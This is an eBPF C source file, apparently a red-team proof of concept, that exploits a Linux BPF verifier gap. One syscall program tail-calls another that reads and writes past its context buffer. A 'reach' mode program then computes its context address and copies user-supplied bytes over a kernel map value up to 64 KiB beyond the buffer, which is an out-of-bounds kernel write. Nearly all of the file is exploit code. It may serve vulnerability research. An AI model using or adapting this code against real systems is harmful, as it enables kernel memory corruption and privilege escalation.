// SPDX-License-Identifier: GPL-2.0
/*
 * tailctx.bpf.c - red team 3: a syscall program reaching past its context
 * through a tail call. The context of a syscall program is a buffer of
 * ctx_size_in bytes, which bpf_prog_test_run_syscall() checks against the
 * max_ctx_offset of the program run (net/bpf/test_run.c), not of one it
 * tail-calls: __bpf_prog_map_compatible() (kernel/bpf/core.c) compares
 * type, JIT, sleepable and attach type only. 7.2 lets sleepable programs
 * (every syscall program is one) use a program array
 * (check_map_prog_compatibility(), kernel/bpf/verifier.c); 6.1 and 6.12
 * refuse that ("Sleepable programs can only use array, hash, ...").
 *
 * `small` reads nothing of its context (max_ctx_offset 0) and tail-calls
 * `big`, which reads and writes a word FAR bytes into it. Run with a
 * context of SIZE bytes, kmalloc'd as a 16 KiB page block (SIZE is over
 * KMALLOC_MAX_CACHE_SIZE), so the word at FAR is past the buffer yet
 * inside the block: the test corrupts nothing.
 */
#include "kernel.h"
#include <bpf/bpf_helpers.h>
#include <bpf/bpf_core_read.h>
#include "ratchet.h"

char LICENSE[] SEC("license") = "GPL";

#define SIZE 12288
#define FAR  14336

struct {
	__uint(type, 3); /* BPF_MAP_TYPE_PROG_ARRAY (uapi) */
	__uint(max_entries, 2);
	__type(key, __u32);
	__type(value, __u32);
} jmp SEC(".maps");

__u64 before, after;
__u32 slot;

SEC("syscall")
int small(void *ctx)
{
	bpf_tail_call(ctx, &jmp, slot);
	return 1;
}

SEC("syscall")
int big(__u64 *ctx)
{
	before = ctx[FAR / 8];
	ctx[FAR / 8] = 0x7274337461696cULL;
	after = ctx[FAR / 8];
	return 2;
}

/*
 * `reach` mode: `big2` (slot 1) learns where its context is and, if the
 * tables' value lies within the 64 KiB past it (7.2 lets a syscall
 * program hand a helper its context at a variable offset,
 * is_var_ctx_off_allowed() in check_helper_mem_access(),
 * kernel/bpf/verifier.c), copies @uptr's bytes over them.
 */
#define TSIZE (sizeof(struct ratchet_tables))

__u64 uptr, ctxaddr, wrote;
__s64 dist;
void *ctxptr;

#include "find-map.bpf.h"

SEC("syscall")
int big2(void *ctx)
{
	__s64 d;

	ctxptr = ctx;
	ctxaddr = *(volatile __u64 *)&ctxptr;
	d = (__s64)(found - ctxaddr);
	dist = d;
	if (d < 0 || d > 65000 - (__s64)TSIZE)
		return 3;
	if (bpf_copy_from_user(ctx + d, TSIZE, (void *)uptr))
		return 4;
	wrote++;
	return 5;
}
